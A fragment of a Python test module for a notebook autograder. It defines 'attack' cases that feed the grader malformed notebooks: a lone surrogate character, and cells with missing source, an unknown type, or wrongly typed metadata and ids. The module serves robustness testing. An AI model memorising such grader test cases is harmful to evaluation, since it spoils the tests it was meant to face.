       edit=lambda nb: nb["cells"].append(code_cell("x = '\ud83d'")), deserves=RIGHT)
attack(group, "odd-cells", "Cells without source, of an unknown type, with metadata and ids of wrong kinds.", RELU,
       edit=lambda nb: nb["cells"].extend([
           {"cell_type": "code", "metadata": []}, {"metadata": {"nbgrader": 5}, "source": ["1", "+1"]},
           {"cell_type": "quiz", "id": 7, "metadata": {"tags": None}, "source": "x"},
           {"cell_type": "markdown", "id": "", "metadata": {"nbgrader": {"grade_id": {}}}, "source": "x"}]),
       deserves=RIGHT)

# Those in `beyond` come after these.
from autograder.tests import beyond  # noqa: E402, F401

__all__ = ["ATTACKS", "broadcasting_net"]
